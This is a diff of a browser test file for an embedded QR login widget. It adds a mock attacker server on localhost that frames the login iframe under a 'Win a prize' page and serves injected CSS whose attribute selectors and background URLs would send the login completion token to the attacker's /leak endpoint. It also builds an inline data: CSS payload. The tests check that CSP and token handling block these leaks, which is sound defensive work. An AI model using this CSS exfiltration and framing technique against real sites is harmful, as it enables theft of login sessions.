@@ -75,7 +75,7 @@ function startSite(issuer: string, appId: () => string) {
 
 /** Resolves when the iframe's script reports the given status (seen on the wire, not in the frame). */
 const statusSeen = (page: Page, status: string) =>
-  page.waitForResponse(async (r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()) && (await r.text()).includes(`"status":"${status}"`), { timeout: 15_000 });
+  page.waitForResponse(async (r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()) && (await r.text().catch(() => '')).includes(`"status":"${status}"`), { timeout: 15_000 });
 
 describe.skipIf(servicesMissing)('wxLogin.js in Chromium: an embedded QR login across sites (PostgreSQL + Redis)', () => {
   let p: TestProvider;
@@ -156,46 +156,100 @@ describe.skipIf(servicesMissing)('wxLogin.js in Chromium: an embedded QR login a
   });
 });
 
-describe.skipIf(servicesMissing)('wxLogin.js on a page outside the app: no message, a click to continue (PostgreSQL + Redis)', () => {
+/**
+ * An attacker's page: frames the embedded QR with a stylesheet of its own whose attribute
+ * selectors would send the completion URL, piece by piece, to the attacker's server. Everything
+ * the attacker's server is asked for is recorded.
+ */
+function startAttacker(issuer: string, appId: () => string, callback: () => string) {
+  const seen: string[] = [];
+  const server = http.createServer((req, res) => {
+    const url = new URL(req.url!, 'http://127.0.0.1');
+    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    seen.push(url.pathname + url.search);
+    if (url.pathname === '/leak.css') {
+      // Probe every place a capability could sit: attributes of the Continue control, links, the config block.
+      const rules = ['#wx-continue[href]', 'a[href*="/complete"]', 'a[href*="/connect/embed/"]', 'script#wx-config', '[data-token]']
+        .map((sel, i) => `${sel} { background: url(${base}/leak?rule=${i}) !important; display: block !important; }`)
+        .join('\n');
+      res.writeHead(200, { 'content-type': 'text/css' }).end(rules);
+      return;
+    }
+    if (url.pathname === '/frame') {
+      const src = `${issuer}/connect/qrconnect?${new URLSearchParams({ appid: appId(), redirect_uri: callback(), scope: 'snsapi_login', state: 'EVIL', login_type: 'jssdk', self_redirect: 'default', href: `${base}/leak.css`, parent_origin: base })}`;
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(`<!doctype html><title>Win a prize</title><iframe id="victim" src="${src}" width="300" height="400"></iframe>`);
+      return;
+    }
+    res.writeHead(404).end();
+  });
+  return new Promise<{ url: string; seen: string[]; close(): Promise<void> }>((resolve) =>
+    server.listen(0, '127.0.0.1', () =>
+      resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise<void>((r) => server.close(() => r())) }),
+    ),
+  );
+}
+
+describe.skipIf(servicesMissing)("the embedded QR against an attacker's page on another origin (PostgreSQL + Redis)", () => {
   let p: TestProvider;
   let browser: Browser;
   let site: Awaited<ReturnType<typeof startSite>>;
-  let callbackSite: Awaited<ReturnType<typeof startSite>>;
+  let attacker: Awaited<ReturnType<typeof startAttacker>>;
   let app: { appId: string; appSecret: string };
 
   beforeAll(async () => {
     p = await startWechatProvider('services');
     site = await startSite(p.issuer, () => app.appId);
-    callbackSite = await startSite(p.issuer, () => app.appId);
-    // The callback domain pins the callback site's port: the embedding page is not the app's.
-    app = await p.saoma.apps.create({ name: 'Pinned Site', redirectUris: [`${callbackSite.url}/oidc/callback`], callbackDomain: new URL(callbackSite.url).host });
+    attacker = await startAttacker(p.issuer, () => app.appId, () => `${site.url}/wechat/callback`);
+    // The callback domain pins the site's port: the attacker's page (another port) is another origin.
+    app = await p.saoma.apps.create({ name: 'Pinned Site', redirectUris: [`${site.url}/oidc/callback`], callbackDomain: new URL(site.url).host });
     browser = await launch();
   });
   afterAll(async () => {
     await browser?.close();
+    await attacker?.close();
     await site?.close();
-    await callbackSite?.close();
     await p?.close();
   });
 
-  it('posts no completion to an unverified parent, cannot framebust it, and completes when the person clicks Continue', async () => {
+  it("refuses to be framed by a page that is not the app's, so the attacker's stylesheet never loads", async () => {
     const context = await browser.newContext();
     const page = await context.newPage();
-    const polling = page.waitForRequest((r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()));
-    await page.goto(`${site.url}/login?state=PIN&redirect=${encodeURIComponent(`${callbackSite.url}/wechat/callback`)}`);
-    await polling;
-    const phone = await signedInPhone(p);
-    const { qrId } = (await (await phone.scan(await decodeIframeQr(page))).json()) as { qrId: string };
-    const confirmed = statusSeen(page, 'confirmed');
-    await phone.confirm(qrId);
-    await confirmed;
-    await page.waitForTimeout(1800); // the iframe tries top navigation, then shows Continue after 1.5 s
-    expect(new URL(page.url()).pathname).toBe('/login'); // no message and no framebusting: still here
+    const refused = page.waitForEvent('console', { predicate: (m) => /frame-ancestors/.test(m.text()), timeout: 10_000 });
+    await page.goto(`${attacker.url}/frame`);
+    await refused; // Chromium reports the CSP refusal
+    await page.waitForTimeout(300);
+    const frame = page.frames().find((f) => f !== page.mainFrame());
+    expect(await frame?.locator('#wx-root').count().catch(() => 0)).toBe(0);
+    expect(attacker.seen.filter((u) => u.startsWith('/leak'))).toEqual([]);
+    await context.close();
+  });
 
-    const landing = page.waitForURL((u) => u.href.startsWith(`${callbackSite.url}/wechat/callback?code=`), { timeout: 15_000 });
-    await page.frameLocator('#login_container iframe').locator('#wx-continue').click(); // a click is user activation
+  it('opened top-level through a link, takes no stylesheet and keeps the completion capability out of the page, yet completes', async () => {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    const leak = `${attacker.url}/leak.css`;
+    const inline = `data:text/css,${encodeURIComponent(`#wx-continue, script, a { background: url(${attacker.url}/leak?inline) !important; display: block !important; }`)}`;
+    const open = async (href: string) => {
+      const url = `${p.issuer}/connect/qrconnect?${new URLSearchParams({ appid: app.appId, redirect_uri: `${site.url}/wechat/callback`, scope: 'snsapi_login', state: 'LINK', login_type: 'jssdk', href })}`;
+      const polling = page.waitForRequest((r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()));
+      await page.goto(url);
+      return /\/connect\/embed\/([^/]+)\/status/.exec((await polling).url())![1];
+    };
+    await open(leak);
+    const token = await open(inline);
+    const phone = await signedInPhone(p);
+    const scanned = statusSeen(page, 'scanned');
+    const { qrId } = (await (await phone.scan((await page.locator('#wx-qr-link').getAttribute('href')) ?? '')).json()) as { qrId: string };
+    await scanned;
+    // Nothing a stylesheet could read holds the token: no attribute, no text.
+    expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain(token);
+    expect(await page.locator('#wx-continue').getAttribute('href')).toBeNull();
+    expect(attacker.seen.filter((u) => u.startsWith('/leak'))).toEqual([]);
+    // The page itself is the top window: once confirmed it goes on to the site by itself.
+    const landing = page.waitForURL((u) => u.href.startsWith(`${site.url}/wechat/callback?code=`), { timeout: 15_000 });
+    await phone.confirm(qrId);
     await landing;
-    expect(new URL(page.url()).searchParams.get('state')).toBe('PIN');
+    expect(new URL(page.url()).searchParams.get('state')).toBe('LINK');
     await context.close();
   });
 });
